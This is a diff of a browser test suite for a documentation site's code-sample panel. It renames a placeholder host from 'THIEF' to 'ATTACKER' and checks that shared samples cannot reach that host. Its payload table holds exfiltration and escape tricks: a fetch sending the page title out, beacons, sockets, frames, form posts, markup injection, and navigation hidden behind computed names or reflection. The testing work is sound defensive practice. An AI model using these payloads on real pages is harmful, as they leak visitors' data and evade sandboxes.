@@ -19,7 +19,7 @@ const wholeBrowser = ["chromium", "chromium-browser", "google-chrome-stable", "g
 /** Whatever the sample does, the console may say that it was stopped; the host's own count decides. */
 const test = base.extend({
   expectedNoise:
-    /^(?:console|uncaught|request to (?:http|ws):\/\/(?:127\.0\.0\.1|localhost|thief))/,
+    /^(?:console|uncaught|request to (?:http|ws):\/\/(?:127\.0\.0\.1|localhost|attacker))/,
 });
 test.skip(!wholeBrowser, "no whole Chromium or Chrome is installed beside the headless shell");
 test.use({
@@ -27,7 +27,7 @@ test.use({
 });
 
 /** A host that counts everything that reaches it, connections without a request included. */
-class Thief {
+class Attacker {
   readonly #server = createServer();
   /** Beside it, because a browser may use a connection again that it has opened ahead. */
   readonly #control = createServer((_, response) => response.end("<!doctype html><p>Here"));
@@ -70,7 +70,7 @@ interface Attack {
   says?: RegExp;
 }
 
-/** What a stranger might put into a link, by what it tries; THIEF is a host of his. */
+/** What a stranger might put into a link, by what it tries; ATTACKER becomes the address of the stranger's host. */
 const attacks: Record<string, Record<string, Attack>> = {
   "what never ends": {
     "an endless loop": { code: "while (true);", says: /at line 1: A loop/ },
@@ -102,94 +102,97 @@ const attacks: Record<string, Record<string, Attack>> = {
       says: /alert: a \(dialogs do not open here\)/,
     },
     "markup in what it prints": {
-      code: 'console.log("<img src=THIEF onerror=alert(1)>"); const x = "<b>"; x; // → "<i>"',
+      code: 'console.log("<img src=ATTACKER onerror=alert(1)>"); const x = "<b>"; x; // → "<i>"',
       says: /<img src=/,
     },
   },
   "what leaves by an address": {
-    "the window's location": { code: 'window.location = "THIEF/x";', says: /was stopped/ },
-    "a bare location": { code: 'location = "THIEF/x";', says: /was stopped/ },
-    href: { code: 'location.href = "THIEF/x";', says: /was stopped/ },
-    assign: { code: 'document.location.assign("THIEF/x");', says: /was stopped/ },
-    "a name that is computed": { code: 'window["loc" + "ation"] = "THIEF/x";', says: /Not run/ },
+    "the window's location": { code: 'window.location = "ATTACKER/x";', says: /was stopped/ },
+    "a bare location": { code: 'location = "ATTACKER/x";', says: /was stopped/ },
+    href: { code: 'location.href = "ATTACKER/x";', says: /was stopped/ },
+    assign: { code: 'document.location.assign("ATTACKER/x");', says: /was stopped/ },
+    "a name that is computed": { code: 'window["loc" + "ation"] = "ATTACKER/x";', says: /Not run/ },
     "a window of another name": {
-      code: 'const w = window; w.location = "THIEF/x";',
+      code: 'const w = window; w.location = "ATTACKER/x";',
       says: /Not run/,
     },
     "a location of another name": {
-      code: 'const { location: l } = window; l.href = "THIEF/x";',
+      code: 'const { location: l } = window; l.href = "ATTACKER/x";',
       says: /Not run: "window"/,
     },
-    reflection: { code: 'Reflect.get(window, "location").href = "THIEF/x";', says: /Not run/ },
+    reflection: { code: 'Reflect.get(window, "location").href = "ATTACKER/x";', says: /Not run/ },
     "an element's document": {
-      code: 'document.body.ownerDocument.location = "THIEF/x";',
+      code: 'document.body.ownerDocument.location = "ATTACKER/x";',
       says: /Not run: "location"/,
     },
     "the document's window": {
-      code: 'document.defaultView.location = "THIEF/x";',
+      code: 'document.defaultView.location = "ATTACKER/x";',
       says: /Not run/,
     },
-    "the top": { code: 'try { top.location = "THIEF/x"; } catch {}', says: /Not run/ },
-    navigation: { code: 'navigation.navigate("THIEF/x");', says: /was stopped/ },
+    "the top": { code: 'try { top.location = "ATTACKER/x"; } catch {}', says: /Not run/ },
+    navigation: { code: 'navigation.navigate("ATTACKER/x");', says: /was stopped/ },
   },
   "what leaves by an element": {
     "a link beside the page": {
-      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.click();',
+      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.click();',
     },
     "a link whose click nobody hears": {
-      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; document.body.append(a); addEventListener("click", (event) => event.stopImmediatePropagation(), true); a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
+      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; document.body.append(a); addEventListener("click", (event) => event.stopImmediatePropagation(), true); a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
     },
     "a link by an event": {
-      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.dispatchEvent(new MouseEvent("click"));',
+      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.dispatchEvent(new MouseEvent("click"));',
     },
     "a link in a closed shadow": {
-      code: 'const r = document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }); r.innerHTML = \'<a href="THIEF/x">x</a>\'; const a = r.firstChild; a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
+      code: 'const r = document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }); r.innerHTML = \'<a href="ATTACKER/x">x</a>\'; const a = r.firstChild; a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
     },
     "a link at the top": {
-      code: 'const a = document.createElement("a"); a.href = "THIEF"; a.target = "_top"; document.body.append(a); a.click();',
+      code: 'const a = document.createElement("a"); a.href = "ATTACKER"; a.target = "_top"; document.body.append(a); a.click();',
     },
     "a download": {
-      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.download = "y"; document.body.append(a); a.click();',
+      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.download = "y"; document.body.append(a); a.click();',
       says: /A download was stopped: y/,
     },
     "a form that is sent": {
-      code: 'document.body.innerHTML = "<form action=THIEF target=_top><input name=a value=b></form>"; document.forms[0].submit();',
+      code: 'document.body.innerHTML = "<form action=ATTACKER target=_top><input name=a value=b></form>"; document.forms[0].submit();',
     },
     "a form whose sending nobody hears": {
-      code: 'document.body.innerHTML = "<form method=post><button formaction=THIEF/x formtarget=_self>x</button></form>"; document.forms[0].addEventListener("submit", (event) => event.stopImmediatePropagation()); document.querySelector("button").click();',
+      code: 'document.body.innerHTML = "<form method=post><button formaction=ATTACKER/x formtarget=_self>x</button></form>"; document.forms[0].addEventListener("submit", (event) => event.stopImmediatePropagation()); document.querySelector("button").click();',
     },
-    "a window": { code: 'open("THIEF"); window.open("THIEF", "_blank");', says: /was not opened/ },
+    "a window": {
+      code: 'open("ATTACKER"); window.open("ATTACKER", "_blank");',
+      says: /was not opened/,
+    },
     "a refresh in markup": {
-      code: 'document.head.innerHTML = \'<meta http-equiv="refresh" content="0;url=THIEF">\';',
+      code: 'document.head.innerHTML = \'<meta http-equiv="refresh" content="0;url=ATTACKER">\';',
       says: /Not run/,
     },
     "a refresh by script": {
-      code: 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=THIEF"; document.head.append(m);',
+      code: 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=ATTACKER"; document.head.append(m);',
       says: /Not run: "meta"/,
     },
     "a frame": {
-      code: 'const f = document.createElement("iframe"); f.src = "THIEF/x"; document.body.append(f);',
+      code: 'const f = document.createElement("iframe"); f.src = "ATTACKER/x"; document.body.append(f);',
       says: /Not run: "iframe"/,
     },
     "a frame in a frame": {
-      code: "document.body.innerHTML = \"<iframe credentialless srcdoc='<iframe src=THIEF/x></iframe>'></iframe>\";",
+      code: "document.body.innerHTML = \"<iframe credentialless srcdoc='<iframe src=ATTACKER/x></iframe>'></iframe>\";",
       says: /Not run/,
     },
   },
-  "what asks a stranger's host": {
+  "what sends requests to a stranger's host": {
     "a request": {
-      code: 'fetch("THIEF/?" + document.title).catch((error) => console.log(error.message));',
+      code: 'fetch("ATTACKER/?" + document.title).catch((error) => console.log(error.message));',
       says: /Failed to fetch/,
     },
     "pictures, styles, fonts and scripts": {
-      code: 'document.body.innerHTML = \'<img src="THIEF/1"><link rel=stylesheet href="THIEF/2"><style>@font-face{font-family:x;src:url(THIEF/3)}b{font-family:x;background:url(THIEF/4)}</style><b>b</b><video src="THIEF/5"></video>\'; const s = document.createElement("script"); s.src = "THIEF/8"; document.head.append(s); import("THIEF/9").catch(() => {});',
+      code: 'document.body.innerHTML = \'<img src="ATTACKER/1"><link rel=stylesheet href="ATTACKER/2"><style>@font-face{font-family:x;src:url(ATTACKER/3)}b{font-family:x;background:url(ATTACKER/4)}</style><b>b</b><video src="ATTACKER/5"></video>\'; const s = document.createElement("script"); s.src = "ATTACKER/8"; document.head.append(s); import("ATTACKER/9").catch(() => {});',
       says: /A picture \(http.*\) was stopped/,
     },
     "sockets, beacons and event streams": {
-      code: 'navigator.sendBeacon("THIEF/1"); for (const make of [() => new WebSocket("THIEF".replace("http", "ws")), () => new EventSource("THIEF"), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] })]) try { make(); } catch (error) { console.log("no", error.name); }',
+      code: 'navigator.sendBeacon("ATTACKER/1"); for (const make of [() => new WebSocket("ATTACKER".replace("http", "ws")), () => new EventSource("ATTACKER"), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] })]) try { make(); } catch (error) { console.log("no", error.name); }',
     },
     "hints to the browser": {
-      code: 'for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "manifest", "icon"]) document.head.append(Object.assign(document.createElement("link"), { rel, as: "image", href: "THIEF/x" }));',
+      code: 'for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "manifest", "icon"]) document.head.append(Object.assign(document.createElement("link"), { rel, as: "image", href: "ATTACKER/x" }));',
     },
   },
   "what reads the site": {
@@ -206,27 +209,27 @@ const attacks: Record<string, Record<string, Attack>> = {
 
 /** What a stranger might put into a page's markup. */
 const pages: Record<string, Attack> = {
-  "a refresh": { code: '<META HTTP-EQUIV="ReFresh" CONTENT="0;URL=THIEF/x"><p>Hi</p>' },
+  "a refresh": { code: '<META HTTP-EQUIV="ReFresh" CONTENT="0;URL=ATTACKER/x"><p>Hi</p>' },
   "frames, objects and a base": {
-    code: '<base href="THIEF"><iframe src="THIEF/1"></iframe><iframe srcdoc="<meta http-equiv=refresh content=0;url=THIEF/2>"></iframe><object data="THIEF/3"></object><embed src="THIEF/4">',
-    says: /The page THIEF\/1 was left out/,
+    code: '<base href="ATTACKER"><iframe src="ATTACKER/1"></iframe><iframe srcdoc="<meta http-equiv=refresh content=0;url=ATTACKER/2>"></iframe><object data="ATTACKER/3"></object><embed src="ATTACKER/4">',
+    says: /The page ATTACKER\/1 was left out/,
   },
   "a frame in a template": {
-    code: '<template><iframe src="THIEF/x"></iframe></template><p>Hi</p><script>document.querySelector("p").append(document.querySelector("template").content.cloneNode(true));</script>',
+    code: '<template><iframe src="ATTACKER/x"></iframe></template><p>Hi</p><script>document.querySelector("p").append(document.querySelector("template").content.cloneNode(true));</script>',
   },
   hints: {
-    code: '<link rel=preconnect href="THIEF"><link rel=dns-prefetch href="THIEF"><link rel=prefetch href="THIEF/x">',
+    code: '<link rel=preconnect href="ATTACKER"><link rel=dns-prefetch href="ATTACKER"><link rel=prefetch href="ATTACKER/x">',
   },
   "a handler": {
-    code: "<body onload=\"const w = window; w.location = 'THIEF/x'\">",
+    code: "<body onload=\"const w = window; w.location = 'ATTACKER/x'\">",
     says: /Not run: "window"/,
   },
   "the window as this": {
-    code: "<p>Hi</p><script>\nthis['loc' + 'ation'] = 'THIEF/x';</script>",
+    code: "<p>Hi</p><script>\nthis['loc' + 'ation'] = 'ATTACKER/x';</script>",
     says: /at line 2: Not run: "this"/,
   },
   "a script that is no module": {
-    code: "<script>var a = 010; (function () { return this; })().location = 'THIEF/x';</script>",
+    code: "<script>var a = 010; (function () { return this; })().location = 'ATTACKER/x';</script>",
     says: /Not run/,
   },
 };
@@ -272,22 +275,25 @@ async function attack(
   const panel = new TryPanel(page);
   for (const [name, { code, says }] of Object.entries(group))
     await test.step(name, async () => {
-      // One of its own: a connection that is open already would be used again, and not be seen.
-      const thief = await new Thief().start();
-      const link = linkTo(target, code.replaceAll("THIEF", thief.origin));
+      // A new one each time: a connection that is open already would be used again, and not be seen.
+      const attacker = await new Attacker().start();
+      const link = linkTo(target, code.replaceAll("ATTACKER", attacker.origin));
       await page.goto(link);
       await expect(panel.warning).toContainText("came with a link");
       await expect(panel.editor).toBeVisible();
       await panel.button("Run").click();
       await expect(panel.status).toHaveText(/^(?:Done|Stopped)/, { timeout: 30_000 });
-      const words = new RegExp((says?.source ?? "").replaceAll("THIEF", thief.origin), says?.flags);
+      const words = new RegExp(
+        (says?.source ?? "").replaceAll("ATTACKER", attacker.origin),
+        says?.flags,
+      );
       await expect(panel.dialog).toContainText(words, { timeout: 30_000 });
-      expect(await thief.reachedBefore(context)).toBe(0);
+      expect(await attacker.reachedBefore(context)).toBe(0);
       expect(new URL(page.url()).hash).toBe(new URL(link, page.url()).hash);
-      expect(opened.filter((one) => one.startsWith(thief.origin))).toEqual([]);
+      expect(opened.filter((one) => one.startsWith(attacker.origin))).toEqual([]);
       await panel.close();
       await expect(page.locator("h1")).toBeVisible();
-      await thief.stop();
+      await attacker.stop();
     });
   expect(context.pages()).toHaveLength(1);
   expect(opened.filter((one) => one.startsWith("dialog"))).toEqual([]);
@@ -319,27 +325,27 @@ test("a known limit: a frame whose name is computed connects to a host before th
   context,
 }) => {
   // It also shows that this browser connects ahead, so that the attacks above are worth their name.
-  const thief = await new Thief().start();
+  const attacker = await new Attacker().start();
   await runShared(
     page,
-    `const frame = document.createElement("ifr" + "ame"); frame.src = "${thief.origin}/x"; document.body.append(frame);`,
+    `const frame = document.createElement("ifr" + "ame"); frame.src = "${attacker.origin}/x"; document.body.append(frame);`,
   );
-  expect(await thief.reachedBefore(context)).toBe(1);
-  await thief.stop();
+  expect(await attacker.reachedBefore(context)).toBe(1);
+  await attacker.stop();
 });
 
 test("a shared sample does nothing before Run is pressed", async ({ page, context }) => {
-  const thief = await new Thief().start();
-  const code = attacks["what asks a stranger's host"]?.["a request"]?.code ?? "";
-  await page.goto(linkTo(valueCard, code.replaceAll("THIEF", thief.origin)));
+  const attacker = await new Attacker().start();
+  const code = attacks["what sends requests to a stranger's host"]?.["a request"]?.code ?? "";
+  await page.goto(linkTo(valueCard, code.replaceAll("ATTACKER", attacker.origin)));
   const panel = new TryPanel(page);
   await expect(panel.editor).toBeVisible();
-  expect(await thief.reachedBefore(context)).toBe(0);
+  expect(await attacker.reachedBefore(context)).toBe(0);
   expect(page.frames()).toHaveLength(1);
   await expect(panel.log).toBeHidden();
   await panel.button("Run").click();
   await expect(panel.log).toContainText("Failed to fetch");
-  await thief.stop();
+  await attacker.stop();
 });
 
 const valueCard: Target = { route: plain.href, card: idOf("Change a value"), file: "sample.js" };
